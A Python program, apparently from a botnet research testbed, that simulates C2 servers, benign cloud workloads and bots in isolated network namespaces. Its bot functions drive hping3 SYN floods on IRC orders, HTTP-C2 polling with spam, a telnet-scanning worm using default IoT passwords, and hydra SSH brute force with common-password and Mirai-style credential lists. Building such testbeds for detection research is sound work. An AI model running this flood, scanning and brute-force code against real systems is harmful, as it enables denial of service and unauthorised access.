#!/usr/bin/env python3
"""The programs of the botnest testbed that no packaged tool plays: servers on the Internet
side, benign workloads of tenant VMs, bots, a worm. Each runs in one network namespace of the
testbed (scripts/testbed.sh starts them) until killed.

  agent.py PROGRAM [ARGS]

Real tools do the work where they exist: curl for every HTTP and SMTP client, hping3 for the
flood, hydra for SSH brute force, ngircd as the IRC C2 and dnsmasq as the DNS server (started by
testbed.sh). Periods are divided by BOTNEST_TESTBED_SPEED (default 1); the run directory
(BOTNEST_TESTBED_DIR) holds the orders of the C2 operators.

Servers (Internet namespace):   http-c2, web-site, store, time-server, telnetd, smtp-servers,
                                p2p-peers, irc-operator, order-spam
Benign workloads (tenant VMs):  web-server, db-server, web-client, db-client, dns, ntp, health,
                                metrics, backup, cron-upload, updates
Bots (tenant VMs):              irc-bot, http-bot, p2p-node, worm, iot-telnetd, ssh-brute,
                                telnet-brute
Checks:                         probe ADDR PORT (exit 0 when a TCP connection succeeds)
"""

import os
import random
import selectors
import socket
import socketserver
import struct
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

SPEED = float(os.environ.get("BOTNEST_TESTBED_SPEED", "1") or 1)
RUN_DIR = os.environ.get("BOTNEST_TESTBED_DIR", "/run/botnest-testbed")
AGENT = os.path.abspath(__file__)

IRC_C2 = ("198.51.100.10", 6667)
HTTP_C2 = "203.0.113.50"
WEB = "192.0.2.80"
DNS = "192.0.2.53"
TIME = "192.0.2.123"
MIRROR = "192.0.2.200"
METRICS = "192.0.2.201"
STORE = "192.0.2.202"
SSH_TARGET = "198.51.100.22"
TELNET_TARGET = "198.51.100.23"
SMTP_SERVERS = ["203.0.113.%d" % i for i in range(25, 41)]
P2P_PEERS = ["198.51.100.%d" % i for i in range(100, 112)]
# Peers that once were in the overlay and are gone: a P2P bot's peer list is mostly stale.
STALE_PEERS = ["198.51.100.%d" % i for i in range(140, 170)] + [
    "203.0.113.%d" % i for i in range(140, 160)
]


def log(*args):
    print(time.strftime("%H:%M:%S"), *args, flush=True)


def sleep(seconds):
    time.sleep(max(0.0, seconds) / SPEED)


def jittered(period, jitter):
    """A period with uniform jitter of +-jitter (a share of the period)."""
    return period * (1 + random.uniform(-jitter, jitter))


def me():
    """This VM's tenant address (on eth0.<tenant>)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.connect((WEB, 80))
        return s.getsockname()[0]
    finally:
        s.close()


def curl(*args, timeout=10):
    """Runs curl quietly; returns its exit status (failures are a workload's normal life)."""
    cmd = ["curl", "-s", "-o", "/dev/null", "--max-time", str(timeout)] + list(args)
    try:
        return subprocess.run(cmd, stdin=subprocess.DEVNULL, timeout=timeout + 5).returncode
    except subprocess.TimeoutExpired:
        return 28


def forever(fn, *args):
    """Runs fn again whenever it fails, so a workload outlives a broken connection."""
    while True:
        try:
            fn(*args)
        except Exception as e:  # noqa: BLE001 - any failure of one round is logged and retried
            log("error:", repr(e))
        sleep(1)


def order():
    """The operator's current order to the HTTP botnet ("" when none)."""
    try:
        with open(os.path.join(RUN_DIR, "c2", "order")) as f:
            return f.read().strip()
    except OSError:
        return ""


# --- servers ------------------------------------------------------------------------------


class Site(BaseHTTPRequestHandler):
    """Any path answers with a body whose size depends on the path; bodies are read and dropped."""

    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def body(self):
        n = int(self.headers.get("Content-Length") or 0)
        while n > 0:
            chunk = self.rfile.read(min(n, 65536))
            if not chunk:
                break
            n -= len(chunk)

    def reply(self, data):
        self.send_response(200)
        self.send_header("Content-Length", str(len(data)))
        self.send_header("Content-Type", "text/plain")
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self):
        size = 200 + (sum(self.path.encode()) * 97) % 30000
        self.reply(b"x" * size)

    def do_POST(self):
        self.body()
        self.reply(b"ok\n")

    do_PUT = do_POST


class C2(Site):
    """The HTTP C2 panel: a poll gets the operator's order, a report is acknowledged."""

    def do_GET(self):
        self.reply((order() or "idle").encode() + b"\n")


def serve_http(handler, addr, port):
    ThreadingHTTPServer.daemon_threads = True
    ThreadingHTTPServer.allow_reuse_address = True
    ThreadingHTTPServer((addr, int(port)), handler).serve_forever()


def web_site(addr, port):
    serve_http(Site, addr, port)


def http_c2(addr, port):
    serve_http(C2, addr, port)


class Sink(socketserver.BaseRequestHandler):
    def handle(self):
        total = 0
        while True:
            data = self.request.recv(65536)
            if not data:
                break
            total += len(data)
        self.request.sendall(b"stored %d\n" % total)


def store(addr, port):
    socketserver.ThreadingTCPServer.allow_reuse_address = True
    socketserver.ThreadingTCPServer.daemon_threads = True
    socketserver.ThreadingTCPServer((addr, int(port)), Sink).serve_forever()


def time_server(addr, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, int(port)))
    while True:
        data, peer = s.recvfrom(512)
        if len(data) >= 48:
            s.sendto(b"\x24" + b"\x00" * 39 + struct.pack("!II", int(time.time()), 0), peer)


class LoginPrompt(socketserver.BaseRequestHandler):
    """A telnet-style login that accepts nobody."""

    def handle(self):
        r = self.request
        r.settimeout(10)
        try:
            for _ in range(3):
                r.sendall(b"login: ")
                if not r.recv(256):
                    return
                r.sendall(b"Password: ")
                if not r.recv(256):
                    return
                r.sendall(b"\r\nLogin incorrect\r\n")
        except OSError:
            pass


def telnetd(addr, port):
    socketserver.ThreadingTCPServer.allow_reuse_address = True
    socketserver.ThreadingTCPServer.daemon_threads = True
    socketserver.ThreadingTCPServer((addr, int(port)), LoginPrompt).serve_forever()


class Smtp(socketserver.StreamRequestHandler):
    """Enough SMTP for curl to deliver a message."""

    def handle(self):
        self.request.settimeout(20)
        w = self.wfile.write
        w(b"220 mx.example ESMTP\r\n")
        in_data = False
        for line in self.rfile:
            if in_data:
                if line in (b".\r\n", b".\n"):
                    in_data = False
                    w(b"250 queued\r\n")
                continue
            verb = line[:4].upper()
            if verb in (b"EHLO", b"HELO"):
                w(b"250 mx.example\r\n")
            elif verb == b"DATA":
                in_data = True
                w(b"354 go ahead\r\n")
            elif verb == b"QUIT":
                w(b"221 bye\r\n")
                return
            else:
                w(b"250 ok\r\n")


def smtp_servers(*addrs):
    socketserver.ThreadingTCPServer.allow_reuse_address = True
    socketserver.ThreadingTCPServer.daemon_threads = True
    for a in addrs:
        srv = socketserver.ThreadingTCPServer((a, 25), Smtp)
        threading.Thread(target=srv.serve_forever, daemon=True).start()
    threading.Event().wait()


def p2p_port(addr):
    """Each node of the overlay listens on a port of its own, derived from its address."""
    last = int(addr.rsplit(".", 1)[1])
    return 20000 + (last * 7919) % 40000


def gossip_reply(s, data, peer, known):
    if data.startswith(b"HELLO") or data.startswith(b"PEERS?"):
        sample = random.sample(known, min(4, len(known)))
        s.sendto(b"PEERS " + " ".join(sample).encode(), peer)


def p2p_peers(*addrs):
    """The overlay's nodes outside the cloud: each answers gossip with some of its peers."""
    known = list(addrs) + STALE_PEERS[:10]
    sel = selectors.DefaultSelector()
    for a in addrs:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((a, p2p_port(a)))
        sel.register(s, selectors.EVENT_READ)
    while True:
        for key, _ in sel.select():
            data, peer = key.fileobj.recvfrom(2048)
            gossip_reply(key.fileobj, data, peer, known)


def irc_operator():
    """The botmaster: joins the C2 channel and orders a flood, then stays."""
    target = os.environ.get("BOTNEST_TESTBED_FLOOD_TARGET", "203.0.113.99")
    seconds = os.environ.get("BOTNEST_TESTBED_FLOOD_SECONDS", "40")
    s = socket.create_connection(IRC_C2, timeout=30)
    f = s.makefile("rb")
    s.sendall(b"NICK master\r\nUSER master 0 * :master\r\n")
    for line in f:
        if line.startswith(b"PING"):
            s.sendall(b"PONG" + line[4:])
        if b" 001 " in line:
            s.sendall(b"JOIN #c2\r\n")
            time.sleep(1)
            s.sendall(("PRIVMSG #c2 :!flood %s %s\r\n" % (target, seconds)).encode())
            log("ordered a flood of", target)


def order_spam():
    os.makedirs(os.path.join(RUN_DIR, "c2"), exist_ok=True)
    with open(os.path.join(RUN_DIR, "c2", "order"), "w") as f:
        f.write("spam")
    log("ordered spam")
    threading.Event().wait()


# --- benign workloads -----------------------------------------------------------------------


def web_server(prefix):
    serve_http(Site, "0.0.0.0", 80)


def db_server(prefix):
    """A request/response database: each query line gets a result of a few kilobytes."""

    class Db(socketserver.StreamRequestHandler):
        def handle(self):
            for line in self.rfile:
                self.wfile.write(b"r" * (100 + len(line) * 37 % 8000) + b"\n")

    socketserver.ThreadingTCPServer.allow_reuse_address = True
    socketserver.ThreadingTCPServer.daemon_threads = True
    socketserver.ThreadingTCPServer(("0.0.0.0", 5432), Db).serve_forever()


def web_client(prefix):
    """People and services browsing: irregular requests to the tenant's site and the web."""
    paths = ["/", "/index.html", "/api/v1/items", "/api/v1/users/42", "/static/app.js",
             "/images/logo.png", "/search?q=botnest", "/api/v1/orders?page=2"]
    while True:
        host = random.choice([WEB, WEB, prefix + ".10"])
        curl("http://%s%s" % (host, random.choice(paths)))
        sleep(random.expovariate(1 / 4.0))


def db_client(prefix):
    def session():
        s = socket.create_connection((prefix + ".10", 5432), timeout=10)
        f = s.makefile("rb")
        for _ in range(random.randint(5, 40)):
            s.sendall(b"SELECT * FROM t WHERE id = %d\n" % random.randint(1, 10**6))
            f.readline()
            sleep(random.expovariate(1 / 2.0))
        s.close()

    forever(lambda: (session(), sleep(random.uniform(1, 10))))


def dns_query(name, qtype=1):
    qid = random.randint(0, 65535)
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00" + struct.pack("!HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    try:
        s.sendto(q, (DNS, 53))
        s.recv(512)
    except OSError:
        pass
    finally:
        s.close()


def dns(prefix):
    names = ["www.example.com", "api.example.com", "time.example.com", "deb.example.com",
             "metrics.example.com", "backup.example.com"]
    while True:
        dns_query(random.choice(names))
        sleep(random.expovariate(1 / 6.0))


def ntp(prefix):
    """Time synchronisation: a 48-octet request every 16 s (ntpd's minimum poll)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    while True:
        try:
            s.sendto(b"\x23" + b"\x00" * 47, (TIME, 123))
            s.recv(512)
        except OSError:
            pass
        sleep(16)


def health(prefix):
    """A monitoring agent: the tenant's site every 10 s, the public API's status every 30 s."""
    n = 0
    while True:
        curl("http://%s.10/health" % prefix, timeout=3)
        if n % 3 == 0:
            curl("http://%s/status" % WEB, timeout=3)
        n += 1
        sleep(10)


def metrics(prefix):
    """Metrics pushed to a push gateway every 15 s."""
    while True:
        body = "cpu %f\nmem %d\n" % (random.random(), random.randint(10**8, 10**9))
        curl("-X", "POST", "--data-binary", body,
             "http://%s:9091/metrics/job/node/instance/%s" % (METRICS, me()), timeout=5)
        sleep(15)


def backup(prefix):
    """A nightly backup, made frequent: a few hundred kilobytes to the store every 90 s."""

    def once():
        s = socket.create_connection((STORE, 873), timeout=20)
        s.sendall(os.urandom(random.randint(100_000, 400_000)))
        s.shutdown(socket.SHUT_WR)
        s.recv(64)
        s.close()

    while True:
        try:
            once()
        except OSError as e:
            log("backup failed:", e)
        sleep(90)


def cron_upload(prefix):
    """A cron job uploading a report every 30 s."""
    while True:
        curl("-X", "PUT", "--data-binary", "report %d" % time.time(),
             "http://%s/upload/report.csv" % WEB, timeout=5)
        sleep(30)


def updates(prefix):
    """Package update checks against the mirror every 60 s."""
    while True:
        curl("http://%s/debian/dists/bookworm/InRelease" % MIRROR)
        curl("http://%s/debian-security/dists/bookworm-security/InRelease" % MIRROR)
        sleep(60)


# --- bots -------------------------------------------------------------------------------------


def flood(target, seconds):
    """A SYN flood with hping3 at a bounded rate (the testbed shares its CPU)."""
    log("flooding", target, "for", seconds, "s")
    rate = os.environ.get("BOTNEST_TESTBED_FLOOD_INTERVAL", "u4000")
    subprocess.run(["timeout", str(seconds), "hping3", "-q", "-S", "-p", "80", "-i", rate,
                    target], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL)


def irc_bot(prefix):
    """An IRC bot: joins the C2 channel, answers pings, and runs the orders it reads there."""
    nick = "bot%06d" % random.randint(0, 999999)

    def session():
        s = socket.create_connection(IRC_C2, timeout=300)
        f = s.makefile("rb")
        s.sendall(("NICK %s\r\nUSER %s 0 * :%s\r\n" % (nick, nick, me())).encode())
        for line in f:
            if line.startswith(b"PING"):
                s.sendall(b"PONG" + line[4:])
            elif b" 001 " in line:
                s.sendall(b"JOIN #c2\r\n")
            elif b"PRIVMSG #c2 :!flood " in line:
                parts = line.decode(errors="replace").split()
                threading.Thread(target=flood, args=(parts[-2], int(parts[-1])),
                                 daemon=True).start()
        raise OSError("C2 closed the connection")

    forever(session)


def spam(seconds=120):
    """Mail through every MX of the list in turn, with curl as the SMTP client."""
    log("spamming")
    end = time.monotonic() + seconds
    msg = "Subject: cheap meds\r\n\r\nbuy now\r\n"
    while time.monotonic() < end:
        mx = random.choice(SMTP_SERVERS)
        rcpt = "user%d@example.net" % random.randint(1, 10**5)
        subprocess.run(["curl", "-s", "--max-time", "5", "smtp://%s" % mx,
                        "--mail-from", "sales@example.org", "--mail-rcpt", rcpt, "-T", "-"],
                       input=msg.encode(), stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL)
        sleep(random.uniform(0.5, 1.5))


def http_bot(prefix, period=None):
    """An HTTP bot: polls its C2 panel with curl every period (jittered +-20 %), runs orders."""
    period = float(period or os.environ.get("BOTNEST_TESTBED_BEACON", "20"))
    bot_id = "%08x" % random.getrandbits(32)
    busy = threading.Event()
    while True:
        out = subprocess.run(["curl", "-s", "--max-time", "10", "-A", "Mozilla/4.0",
                              "http://%s/gate.php?id=%s" % (HTTP_C2, bot_id)],
                             stdin=subprocess.DEVNULL, capture_output=True)
        if out.stdout.strip() == b"spam" and not busy.is_set():
            busy.set()
            threading.Thread(target=lambda: (spam(), busy.clear()), daemon=True).start()
        sleep(jittered(period, 0.2))


def p2p_node(prefix):
    """A P2P bot: listens on its own port, and gossips with peers from its list (fellow bots of
    the tenant, nodes outside, many of them long gone), learning new ones from the answers."""
    mine = me()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", p2p_port(mine)))
    s.settimeout(0.1)
    fellows = ["%s.%d" % (prefix, n) for n in (25, 26, 34, 35)]
    known = [a for a in fellows if a != mine] + P2P_PEERS + STALE_PEERS
    random.shuffle(known)
    next_hello = 0.0
    while True:
        now = time.monotonic()
        if now >= next_hello:
            peer = random.choice(known)
            s.sendto(b"HELLO " + mine.encode(), (peer, p2p_port(peer)))
            next_hello = now + jittered(2.0, 0.5) / SPEED
        try:
            data, peer = s.recvfrom(2048)
        except socket.timeout:
            continue
        if data.startswith(b"PEERS "):
            for a in data[6:].decode().split():
                if a not in known and a != mine:
                    known.append(a)
        else:
            gossip_reply(s, data, peer, known)


def scan_round(targets, port, timeout=1.5):
    """Connects to every target at once (non-blocking); returns those that accepted."""
    sel = selectors.DefaultSelector()
    socks = {}
    for t in targets:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect_ex((t, port))
        except OSError:
            s.close()
            continue
        socks[s] = t
        sel.register(s, selectors.EVENT_WRITE)
    open_ = []
    deadline = time.monotonic() + timeout
    while socks and time.monotonic() < deadline:
        for key, _ in sel.select(max(0.0, deadline - time.monotonic())):
            s = key.fileobj
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                open_.append(socks[s])
            sel.unregister(s)
            s.close()
            del socks[s]
    for s in socks:
        s.close()
    return open_


def infect(target):
    """Logs in to a device's telnet-like service with a default password and runs the payload."""
    s = socket.create_connection((target, 2323), timeout=5)
    f = s.makefile("rb")
    f.readline()
    s.sendall(b"root\nxc3511\n")
    s.sendall(b"/bin/busybox botnest-testbed-payload\n")
    reply = f.readline()
    s.close()
    return b"OK" in reply


def worm(prefix):
    """Scans the telnet ports of random addresses in the tenant's /22 and sweeps its own /24
    once in random order (its neighbours answer ARP, so they are found there); whatever accepts
    the default password is infected, polls the HTTP C2 and scans in turn."""
    base = prefix.rsplit(".", 1)[0]
    third = int(prefix.rsplit(".", 1)[1]) & ~3
    rate = float(os.environ.get("BOTNEST_TESTBED_SCAN_RATE", "20"))
    neighbours = ["%s.%d" % (prefix, n) for n in range(1, 255)]
    random.shuffle(neighbours)
    infected = set()
    while True:
        targets = ["%s.%d.%d" % (base, third + random.randint(0, 3), random.randint(1, 254))
                   for _ in range(int(rate))]
        targets += neighbours[:8]
        del neighbours[:8]
        for port in (23, 2323):
            for t in scan_round(targets, port):
                if port == 2323 and t not in infected:
                    try:
                        if infect(t):
                            infected.add(t)
                            log("infected", t)
                    except OSError:
                        pass
        sleep(1)


def iot_telnetd(prefix):
    """A device with a default password on its telnet service: the worm's way in. The payload
    makes it a bot of the HTTP botnet and a scanner of the worm."""

    class Device(socketserver.StreamRequestHandler):
        def handle(self):
            self.request.settimeout(10)
            self.wfile.write(b"login: \n")
            user = self.rfile.readline().strip()
            password = self.rfile.readline().strip()
            command = self.rfile.readline().strip()
            if (user, password) == (b"root", b"xc3511") and b"payload" in command:
                self.wfile.write(b"OK\n")
                infected()
            else:
                self.wfile.write(b"Login incorrect\n")

    started = []

    def infected():
        if started:
            return
        started.append(True)
        log("infected")
        for program in ("http-bot", "worm"):
            subprocess.Popen([sys.executable, AGENT, program, prefix], stdin=subprocess.DEVNULL)

    socketserver.ThreadingTCPServer.allow_reuse_address = True
    socketserver.ThreadingTCPServer.daemon_threads = True
    socketserver.ThreadingTCPServer(("0.0.0.0", 2323), Device).serve_forever()


def ssh_brute(prefix):
    """SSH password guessing with hydra, round after round."""
    words = os.path.join(RUN_DIR, "passwords.txt")
    with open(words, "w") as f:
        f.write("\n".join(["123456", "password", "admin", "root", "toor", "qwerty", "letmein",
                           "12345678", "changeme", "raspberry", "ubnt", "default"]) + "\n")
    while True:
        subprocess.run(["hydra", "-q", "-I", "-l", "root", "-P", words, "-t", "2", "-w", "5",
                        "ssh://%s" % SSH_TARGET], stdin=subprocess.DEVNULL,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                       cwd=RUN_DIR)  # hydra leaves its hydra.restore in the working directory
        sleep(2)


def telnet_brute(prefix):
    """Telnet password guessing with the credentials IoT malware carries, one try a connection."""
    creds = [("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "888888"),
             ("root", "default"), ("support", "support"), ("root", "12345"), ("user", "user")]
    while True:
        user, password = random.choice(creds)
        try:
            s = socket.create_connection((TELNET_TARGET, 23), timeout=5)
            s.recv(64)
            s.sendall(user.encode() + b"\r\n")
            s.recv(64)
            s.sendall(password.encode() + b"\r\n")
            s.recv(64)
            s.close()
        except OSError:
            pass
        sleep(random.uniform(0.5, 1.5))


def probe(addr, port):
    try:
        socket.create_connection((addr, int(port)), timeout=5).close()
    except OSError as e:
        print("probe %s:%s: %s" % (addr, port, e), file=sys.stderr)
        sys.exit(1)


PROGRAMS = {
    "http-c2": http_c2, "web-site": web_site, "store": store, "time-server": time_server,
    "telnetd": telnetd, "smtp-servers": smtp_servers, "p2p-peers": p2p_peers,
    "irc-operator": irc_operator, "order-spam": order_spam,
    "web-server": web_server, "db-server": db_server, "web-client": web_client,
    "db-client": db_client, "dns": dns, "ntp": ntp, "health": health, "metrics": metrics,
    "backup": backup, "cron-upload": cron_upload, "updates": updates,
    "irc-bot": irc_bot, "http-bot": http_bot, "p2p-node": p2p_node, "worm": worm,
    "iot-telnetd": iot_telnetd, "ssh-brute": ssh_brute, "telnet-brute": telnet_brute,
    "probe": probe,
}

if __name__ == "__main__":
    if len(sys.argv) < 2 or sys.argv[1] not in PROGRAMS:
        sys.exit(__doc__)
    if sys.argv[1] != "probe":
        log("start", " ".join(sys.argv[1:]))
    try:
        PROGRAMS[sys.argv[1]](*sys.argv[2:])
    except KeyboardInterrupt:
        pass
